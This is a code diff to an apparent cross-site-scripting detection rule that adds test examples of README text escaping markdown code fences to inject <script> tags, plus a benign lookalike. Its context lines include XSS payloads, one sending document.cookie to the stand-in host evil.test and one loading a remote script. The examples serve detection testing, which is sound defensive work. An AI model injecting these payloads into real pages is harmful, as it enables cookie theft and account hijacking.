@@ -28,6 +28,9 @@ export const scriptElement: ValueRule = {
   trigger: { classes: charClass.less, literals: [['script']] },
   judge: judgeScriptElement,
   examples: [
+    { body: { readme: '# Use\n\n``` `\n<script>alert(1)</script>\n```' } },
+    { body: { readme: 'a\n\n```\nb\n```\n<script>alert(1)</script>\n' } },
+    { body: { readme: '<pre>\n\n```\n</pre><script>alert(1)</script>\n' } },
     '<script>alert(1)</script>',
     'Nice page!<ScRiPt\n>top.location="//evil.test/"+document.cookie</sCrIpT>',
     '"><script src=//evil.test/x.js>',
@@ -39,6 +42,12 @@ export const scriptElement: ValueRule = {
     '`<script>`;alert(1)//`',
   ],
   lookalikes: [
+    {
+      body: {
+        readme:
+          '# Use\n\n```html\n<script src="https://cdn.example.com/a.js"></script>\n```\n\nDone.',
+      },
+    },
     'Put your code between <script> and </script>, near the end of the page.',
     'The <script> tag (see chapter 4) has an async attribute.',
     'I wrote <script src="app.js"></script> at the end of the body but it does not load.',
